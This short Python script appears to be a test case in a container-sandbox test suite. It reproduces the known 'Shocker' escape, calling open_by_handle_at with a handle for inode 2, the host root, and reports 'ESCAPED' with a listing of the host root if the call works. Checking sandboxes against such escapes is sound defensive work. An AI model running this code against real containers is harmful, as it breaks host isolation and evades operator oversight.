# technique: open_by_handle_at with a handle of inode 2: the host's root (Shocker)
# source: "Shocker" (docker 0.11), open_by_handle_at(2)
# verdict: SV
# invariant: no file is opened by its handle
# without: seccomp capabilities
import ctypes, os, struct

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(struct.pack("<IiQ", 8, 1, 2), 24)
mount = os.open("/etc/hostname", os.O_RDONLY)
opened = libc.syscall(304, mount, handle, os.O_RDONLY)
print("ESCAPED" if opened >= 0 else "held", ctypes.get_errno(), os.listdir(opened) if opened >= 0 else "")
